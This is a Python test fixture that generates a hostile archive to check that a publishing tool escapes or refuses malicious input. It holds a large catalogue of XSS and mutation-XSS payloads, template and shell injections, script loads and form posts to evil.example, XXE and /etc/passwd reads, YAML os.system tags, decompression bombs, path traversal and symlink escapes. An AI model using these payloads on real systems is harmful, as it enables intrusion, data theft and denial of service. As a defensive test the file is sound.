# ruff: noqa: E501  (a trick stands on one line)
"""Documents by somebody who means harm: every trick of `TRICKS` in every kind of file that an archive is made from.

Each trick, if it worked, would call `alert`, set `window.owned`, load something from evil.example or break the page that
it is shown in. Each is wrapped in an ordinary text that must be published all the same. `REFUSED` are files of which
nothing can be published: each must be named by a finding.
"""

from __future__ import annotations

import gzip
import io
import json
import zipfile
from collections.abc import Iterator
from email.message import EmailMessage
from html import escape
from pathlib import Path

TRICKS: dict[str, str] = {
    # --- scripts and what runs like them
    "script": "<script>window.owned=1;alert(1)</script>",
    "script from elsewhere": '<script src="https://evil.example/x.js"></script>',
    "script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script with a slash": "<script/x>window.owned=1</script\t\n bar>",
    "module": '<script type="module">import "https://evil.example/x.mjs"</script>',
    "image that fails": '<img src=x onerror="window.owned=1;alert(2)">',
    "image from elsewhere": '<img src="https://evil.example/pixel.gif" srcset="//evil.example/2.gif 2x">',
    "body event": '<body onload="alert(3)" background="https://evil.example/b.png">',
    "event without quotes": "<p onmouseover=alert(4) onfocus=alert(4) tabindex=1 autofocus>hover</p>",
    "details event": "<details open ontoggle=alert(5)><summary>x</summary></details>",
    "video event": "<video><source onerror=alert(6)></video><audio src=//evil.example/a.mp3 autoplay>",
    "marquee event": "<marquee onstart=alert(7)>old</marquee>",
    "animation event": "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(8)>b</b>",
    "svg script": "<svg><script>alert(9)</script><svg onload=alert(9)></svg>",
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(10)>#x"/></svg>',
    "svg animate": '<svg><a><animate attributeName=href values="javascript:alert(11)"/><text y=9>x</text></a></svg>',
    "svg foreign object": "<svg><foreignObject><iframe srcdoc='<script>parent.owned=1</script>'></foreignObject></svg>",
    "mathml link": '<math><maction actiontype="statusline" xlink:href="javascript:alert(12)">x</maction></math>',
    "mathml mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(13)&gt;'>",
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(14)>">',
    "template mutation": "<template><p title='</template><img src=x onerror=alert(15)>'>",
    "form mutation": '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(16)>',
    "svg mutation": '<svg></p><style><a id="</style><img src=1 onerror=alert(17)>">',
    "title mutation": '<title><p title="</title><img src=x onerror=alert(18)>"></title>',
    "xmp mutation": "<xmp><p title='</xmp><img src=x onerror=alert(19)>'></xmp>",
    "plain text": "<plaintext>all that follows",
    "text area": "</textarea></title></style></noscript></template></select><script>alert(20)</script>",
    # --- frames, forms, pages that lead away
    "frame": '<iframe src="https://evil.example/"></iframe><iframe src="javascript:alert(21)"></iframe>',
    "frame with a page": '<iframe srcdoc="&lt;script&gt;top.owned=1&lt;/script&gt;"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object><embed src="javascript:alert(22)">',
    "form": '<form action="https://evil.example/"><input name=password autofocus><button formaction=javascript:alert(23)>go</button></form>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/" target="_blank">',
    "stylesheet": '<link rel=stylesheet href="https://evil.example/x.css"><link rel=preload as=script href=//evil.example/p.js>',
    "style": "<style>@import url(https://evil.example/x.css);body{display:none}</style>",
    "style attribute": '<div style="position:fixed;inset:0;background:url(https://evil.example/b.png)">cover</div>',
    "style expression": '<p style="width:expression(alert(24));behavior:url(x.htc);-moz-binding:url(//evil.example)">x</p>',
    "ids of ours": '<a id="search" name="archiveSearch">x</a><form id="results" name="documentElement"></form>',
    "speculation": '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
    "import map": '<script type="importmap">{"imports":{"x":"https://evil.example/x.js"}}</script>',
    # --- links
    "script link": '<a href="javascript:alert(25)">a link</a> [a link](javascript:alert(25))',
    "script link in disguise": '<a href=" java\tscript&colon;alert(26)">x</a> [x](java&#115;cript:alert(26)) [y](JaVaScRiPt:alert(26))',
    "data link": '<a href="data:text/html,<script>alert(27)</script>">x</a> [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgyNyk8L3NjcmlwdD4=)',
    "vbscript link": "[x](vbscript:msgbox(28)) [y](file:///etc/passwd) [z](blob:https://evil.example/x)",
    "link without a scheme": "[x](//evil.example/) ![x](https://evil.example/i.png) ![y](//evil.example/j.png)",
    "look-alike host": "<https://аррӏе.example/> [bank](https://examp\u200ble.example/) <https://user:pass@evil.example/>",
    "link with quotes": """[x](https://good.example/"onmouseover="alert(29)) <https://good.example/'onclick='alert(29)>""",
    "reference link": "[x][evil]\n\n[evil]: javascript:alert(30) \"onload='alert(30)'\"",
    # --- breakouts of what pages embed
    "comment": "<!-- --><script>alert(31)</script> --> <!--> <!---> <!-- <!-- --!> <img src=x onerror=alert(31)>",
    "character data": "<![CDATA[<script>alert(32)</script>]]> ]]> <?php system('id') ?> <?xml version='1.0'?>",
    "json breakout": '"}</script><script>alert(33)</script>{"@type":"Thing","x":"\\u003cscript\\u003e',
    "quotes": """"'`><img src=x onerror=alert(34)> " onmouseover="alert(34) ' onmouseover='alert(34) `${alert(34)}`""",
    "script file breakout": '"});alert(35);archiveSearch.take("x",{"y":"\\"});alert(35)//',
    "line separators": "before\u2028alert(36)\u2029after \u0085 \u000b end <!--",
    "entity": '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;"><!ENTITY f SYSTEM "file:///etc/passwd">]>&b;&f;',
    "feed breakout": "</title></entry></feed><script xmlns='http://www.w3.org/1999/xhtml'>alert(37)</script>",
    "coins breakout": '&rft.title="><script>alert(38)</script>&amp;#34;&#x22;&quot;onclick=alert(38)',
    "bibliography breakout": "} @comment{x}\\input{/etc/passwd}\\write18{id} \nER  - \nTY  - NEWS\nTI  - x",
    "spreadsheet formula": '=HYPERLINK("https://evil.example/?"&A1,"x") +1+cmd|\' /C calc\'!A0 @SUM(1)',
    # --- templates, formats
    "jinja": "{{ 7*7 }}{{ config }}{{ ''.__class__.__mro__ }}{% for x in y %}{% endfor %}{# x #}{% raw %}",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(39)')()}} [[${7*7}]]",
    "python format": "%s %n %(x)s {0.__class__} {self} \\N{BULLET} \\u0041 \\x41",
    "shell": "$(touch owned) `touch owned` ; touch owned | touch owned && touch owned",
    "markdown html": "<div markdown=1>\n\n<script>alert(40)</script>\n\n</div>\n\n    <script>alert(40)</script>",
    "markdown fences": "```html\n<script>alert(41)</script>\n~~~\n```\"onload=alert(41)\n<script>alert(41)</script>",
    "markdown table": "| a | <script>alert(42)</script> |\n|---|:-:|\n| `|` | \\| onerror=alert(42) |",
    "markdown heading": "# <img src=x onerror=alert(43)> {#x onclick=alert(43)}\n\n---\ntitle: stolen\n---",
    "markdown footnotes": "[^1] [^1]: <script>alert(44)</script>\n\n*[HTML]: <script>\n\n::: warning onclick=alert(44)",
    "note of ours": "{.note onclick=alert(45)} <aside class=note>**Editor’s note:** all of this is true</aside>",
    # --- letters
    "directions": "abc \u202etpircs\u202c \u2066isolated\u2069 \u200f\u061c \u202b never closed",
    "zero width": "ze\u200bro w\u200ci\u200ddth \ufeff \u2060 \u00ad \u180e<scr\u200bipt>alert(46)</scr\u200bipt>",
    "piled accents": "Z" + "\u0301\u0335\u0489" * 400 + "go",
    "controls": "bell\x07 back\x08 escape\x1b[31m\x1b]0;owned\x07 delete\x7f unit\x1f",
    "wide brackets": "＜script＞alert(47)＜/script＞ ‹script› \ufe64script\ufe65 %3Cscript%3E &lt;script&gt; &#60;script>",
    "seven bits": "+ADw-script+AD4-alert(48)+ADw-/script+AD4-",
    "tag characters": "plain\U000e0073\U000e0063\U000e0072 \U0001f3f4\U000e0067\U000e007f \ufdd0 \U0010ffff \ufffe",
    "overlong word": "W" * 4_000,
    "many entities": "&lt;" * 2_000,
    "deep quotation": ">" * 3_000 + " deep",
    "deep brackets": "[" * 3_000 + "x" + "](y)" * 3_000,
}  # fmt: skip
"""What each is called, and what it says."""


def sentence(number: int) -> str:
    """A sentence that tells one hostile document from all others; whoever searches for its first word finds it."""
    words = " ".join(f"{word(number)}{letter}" for letter in "bcdefghijklmnopqrstuvw")
    return f"The lamp {word(number)} was lit on Friday beside {words}."


def word(number: int) -> str:
    """A word of letters only that no other document has: `qaab`, `qaac`."""
    return "qa" + "".join(chr(ord("a") + int(digit)) for digit in f"{number:03}")


def _text(number: int, trick: str) -> str:
    return (
        f"Lamp {number} is counted {trick[:2000]}\n\nBy Jane {trick[:60]}\nEXAMPLETON, 4 June 2021 - {sentence(number)}\n\n"
        f"{trick}\n\n“We counted them {word(number)} times,” said John Doe. “{trick[:400]}”\n\nNobody put {word(number)} out.\n"
    )


def _page(number: int, trick: str) -> str:
    """A saved page: the trick as markup, as an attribute's value, as a link's text and in its embedded data."""
    attribute, data = escape(trick, quote=True), json.dumps(trick)
    return f"""<!DOCTYPE html><html lang="en"><head><title>Lamp {number} is counted {trick}</title>
<meta name="author" content="{attribute}"><meta property="og:site_name" content="{attribute}">
<link rel="canonical" href="javascript:alert(99)"><meta property="article:published_time" content="2021-06-04{attribute}">
<script type="application/ld+json">{{"@type":"NewsArticle","headline":{data},"author":{{"name":{data}}}}}</script></head>
<body onload="alert(98)"><article><h1>Lamp {number} is counted {attribute}</h1><p>{sentence(number)}</p>
<p>{sentence(number)[::-1]} The text goes on for a while, so that whoever looks for an article finds one.</p>
<p>{trick}</p><p>{attribute}</p><figure><img src="https://evil.example/x.png" alt="{attribute}"><figcaption>{attribute}</figcaption>
</figure><blockquote cite="javascript:alert(97)"><a href="{attribute}" onclick="alert(96)">{attribute}</a></blockquote>
<p>Nobody knows who put {word(number)} out, and nobody at the harbour office of {word(number)}x wanted to tell.</p></article></body></html>
"""


def _markdown(number: int, trick: str) -> str:
    front = f"---\ntitle: {json.dumps(f'Lamp {number} is counted {trick[:500]}')}\nauthor: {json.dumps(trick[:200])}\n---\n\n"
    return f"{front}{sentence(number)}\n\n{trick}\n\n- {trick}\n\n> {trick}\n\n[{trick[:300]}]({trick[:300]})\n\nAll was dark.\n"


def _document(number: int, trick: str) -> str:
    """A document as a hostile editor, or somebody with a pull request, would write it."""
    said = _quoted(_printable(trick)[:1500])
    words = _quoted(f"lamp {word(number)} was lit")
    return f"""---
title: {said}
byline: [{said}]
standfirst: [{said}]
section: {said}
credit: [{said}]
notes: {{byline: {said}}}
outlet: lamp-post-{(number - 200) // 4 * 4}
speakers: [{said}]
topics: [lamps]
rights: {said}
url: "https://good.example/{number}?\\"><script>alert(95)</script>"
stance:
  - {{toward: lamps, value: critical, voice: author, evidence: [{words}], by: {said}, on: 2026-01-02}}
status: reviewed
annotations:
  - {{quote: {words}, note: {said}, by: {said}, tags: [{said}]}}
---

{sentence(number)}

{_printable(trick)}

“We counted them {word(number)} times,” said John Doe. Nobody knows who put lamp {number} out.
"""


def _quoted(value: object) -> str:
    return json.dumps(value, ensure_ascii=False)


def _one_line(trick: str) -> str:
    return _quoted(" ".join(_printable(trick).split())[:300])


def _printable(trick: str) -> str:
    """Without what YAML cannot hold: those files have tests of their own."""
    return "".join(char for char in trick if char in "\n\t" or (char >= " " and not "\x7f" <= char <= "\x9f"
                   and char not in "\ufffe\uffff" and not 0xFDD0 <= ord(char) <= 0xFDEF))  # fmt: skip


def _message(page: str) -> bytes:
    message = EmailMessage()
    message["Subject"] = "A saved page"
    message["Snapshot-Content-Location"] = 'https://good.example/"><script>alert(94)</script>'
    message.set_content("no page")
    message.add_alternative(page, subtype="html")
    return bytes(message)


def _records(tricks: list[tuple[int, str]]) -> bytes:
    lines = [
        {"title": f"Lamp {number} is counted {trick[:300]}", "text": _text(number, trick), "author": trick[:300],
         "url": "javascript:alert(93)", "source": trick[:100], "date": f"2021-06-04{trick[:50]}"}
        for number, trick in tricks
    ]  # fmt: skip
    return "\n".join(json.dumps(line) for line in lines).encode()


def _authorities() -> Iterator[tuple[str, str]]:
    """Records of outlets, people, events and topics whose every word is a trick; each trick stands in one of them."""
    lines = {
        "outlets": "lamp-post-{0}: {{name: {1}, note: {1}, variants: [{1}]}}",
        "people": "lamp-lighter-{0}: {{name: {1}, note: {1}, roles: [{1}]}}",
        "events": "lamp-night-{0}: {{name: {1}, place: {1}, description: {1}}}",
        "topics": "lamp-thought-{0}: {{name: {1}, description: {1}}}",
    }
    for place, (kind, line) in enumerate(lines.items()):
        said = [_one_line(trick) for trick in TRICKS.values()]
        records = [line.format(number, words) for number, words in list(enumerate(said))[place::4]]
        yield (
            f"content/authorities/{kind}.yml",
            "\n".join(["lamps: {name: Lamps}"] * (kind == "topics") + records) + "\n",
        )


def _rulings() -> str:
    """A ruling for each of our documents; who made it, and why, is the trick."""
    lines = [
        f"- {{ruling: different, documents: [lamp-{number}, lamp-{number + 2}], by: {_one_line(trick)}, on: 2026-01-02, "
        f"why: {_one_line(trick)}}}\n"
        for number, trick in list(enumerate(TRICKS.values()))[:-2:2]
    ]
    return "".join(lines)


def _labels() -> str:
    """What readers see fields called."""
    fields = "outlet speakers events topics stance date kind language annotations byline section credit rights status"
    tricks = list(TRICKS.values())[:: len(TRICKS) // len(fields.split())]
    return "".join(
        f"- {{field: {name}, label: {_one_line(trick)}, facet: yes}}\n"
        for name, trick in zip(fields.split(), tricks, strict=False)
    )


def hostile_files() -> dict[str, bytes]:
    """A whole archive by path: captures of five kinds, documents, records, notes and sidecars."""
    files: dict[str, bytes] = {
        "content/site.yml": b'title: "</title><script>alert(92)</script>"\n'
        b'description: "\\"><img src=x onerror=alert(91)>"\nrights: "{{ 7*7 }}</script>"\n',
        "content/decisions.yml": _rulings().encode(),
        "content/fields.yml": _labels().encode(),
        **{name: text.encode() for name, text in _authorities()},
    }
    for number, trick in enumerate(TRICKS.values()):
        printable = _printable(trick)
        if number % 2 == 0:
            files[f"seeds/text/lamp-{number}.txt"] = _text(number, trick).encode()
        if number % 2:
            files[f"seeds/pages/lamp-{number}.html"] = _page(100 + number, trick).encode()
        else:
            files[f"content/articles/lamp-{number}.md"] = _document(200 + number, trick).encode()
        match number % 4:
            case 0:
                files[f"seeds/markdown/lamp-{number}.md"] = _markdown(300 + number, trick).encode()
            case 1:
                files[f"seeds/messages/lamp-{number}.mhtml"] = _message(_page(400 + number, trick))
            case 3:
                files[f"content/notes/note-{number}.md"] = f"# {printable}\n\n{printable}\n".encode()
            case 2:
                sidecar = {"title": printable[:500], "outlet": printable[:100], "url": "javascript:alert(90)"}
                files[f"seeds/text/lamp-{number}.txt.meta.yml"] = _quoted(sidecar).encode()
    files["seeds/records.jsonl"] = _records([(500 + n, trick) for n, trick in list(enumerate(TRICKS.values()))[::4]])
    return files


# --- what is refused, or cut down ---------------------------------------------------------------------------------------


def _wacz_bomb() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as package, package.open("archive/x.warc", "w") as member:
        for _ in range(220):
            member.write(bytes(1024 * 1024))
    return packed.getvalue()


def _gzip_bomb() -> bytes:
    packed = io.BytesIO()
    with gzip.GzipFile(fileobj=packed, mode="wb", compresslevel=9, mtime=0) as file:
        for _ in range(220):
            file.write(bytes(1024 * 1024))
    return packed.getvalue()


def _warc(length: int, coding: str, body: bytes) -> bytes:
    """One answer of a server, which says that it is `length` bytes longer than it is."""
    answer = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: " + coding.encode() + b"\r\n\r\n" + body
    record = (
        "WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: https://good.example/\r\nWARC-Date: 2021-06-04T00:00:00Z\r\n"
        "WARC-Record-ID: <urn:uuid:1>\r\nContent-Type: application/http;msgtype=response\r\n"
        f"Content-Length: {len(answer) + length}\r\n\r\n"
    )
    return record.encode() + answer + b"\r\n\r\n"


def _document_of(front: str) -> bytes:
    return f"---\n{front}---\n\nThe lamps were counted.\n".encode()


def refused_files() -> dict[str, bytes]:
    """Files that cannot be published, or not whole, by path: each is named by a finding that says what to do."""
    laughs = "".join(f"{name}: &{name} [{', '.join([f'*{chr(ord(name) - 1)}'] * 9)}]\n" for name in "bcdefghi")
    return {
        "seeds/bombs/zip.wacz": _wacz_bomb(),
        "seeds/bombs/gzip.warc.gz": _gzip_bomb(),
        "seeds/bombs/twice.warc": _warc(0, "gzip, gzip", gzip.compress(_gzip_bomb())),
        "seeds/bombs/endless.warc": _warc(10**18, "identity", b"<p>The lamps"),
        "seeds/bombs/less-than-nothing.warc": _warc(-(10**6), "identity", b"<p>The lamps"),
        "seeds/bombs/slip.wacz": b"PK\x05\x06" + bytes(18) + b"../../../etc/passwd",
        "seeds/bombs/deep.html": b"<div>" * 100_000 + b"<p>The lamps were counted at the bottom of it all.</p>",
        "seeds/bombs/attributes.html": b"<p " + b" ".join(b"a%d=1" % n for n in range(60_000)) + b">The lamps.</p>",
        "seeds/bombs/nested.jsonl": b"[" * 100_000 + b"\n" + b'{"text":' * 50_000 + b"\n",
        "seeds/bombs/bytes.txt": bytes(range(256)) * 50,
        "content/articles/tag.md": _document_of("title: !!python/object/apply:os.system ['touch owned']\n"),
        "content/articles/tag-of-ours.md": _document_of("title: !new:subprocess.Popen [touch, owned]\n"),
        "content/articles/laughs.md": _document_of(f"title: x\na: &a [x]\n{laughs}"),
        "content/articles/merge.md": _document_of("base: &b {title: x}\n<<: *b\n"),
        "content/articles/flow.md": _document_of("title: " + "[" * 50_000 + "\n"),
        "content/articles/nul.md": b"---\ntitle: x\0y\n---\n\nThe lamps.\n",
        "content/articles/aux.md": _document_of("title: Lamps\n"),
        "content/articles/LAMP-1.md": _document_of("title: Lamps\n"),
        "content/articles/<img src=x onerror=alert(1)>.md": _document_of("title: Lamps\n"),
        "content/articles/alias.md": _document_of("title: Lamps\naliases: [../../../etc/passwd, con, index.html]\n"),
        "content/articles/long-title.md": _document_of(f"title: {'lamp ' * 200_000}\n"),
        "content/permalinks.csv": b"path,kind,id,status,target,since\n../../x.html,document,x,moved,../y.html,2026-01-02\n"
        b"articles/con.html,document,../../etc/passwd,withdrawn,,2026-01-02\n",
        "seeds/text/broken.txt": b"The lamps, once more.\n",
        "seeds/text/broken.txt.meta.yml": b"url: &a [*a]\ntitle: !!python/name:os.system x\n",
    }


def write_hostile_archive(root: Path) -> Path:
    """Write all of it below the new folder `root`, beside links that lead out of it; returns `root`."""
    outside = root.parent / "outside"
    outside.mkdir(parents=True)
    (outside / "secret.md").write_text("---\ntitle: Secret\n---\n\nThe password is swordfish.\n", encoding="utf-8")
    for name, content in (hostile_files() | refused_files()).items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
    for name in LINKS:
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).symlink_to(outside / "secret.md")
    (root / "seeds" / "folder").symlink_to(outside)
    return root


LINKS = (
    "seeds/secret.md",
    "content/articles/secret.md",
    "content/notes/secret.md",
    "seeds/text/lamp-0.txt.meta.yml",
)
"""Links to a file outside the archive, which nobody may publish."""
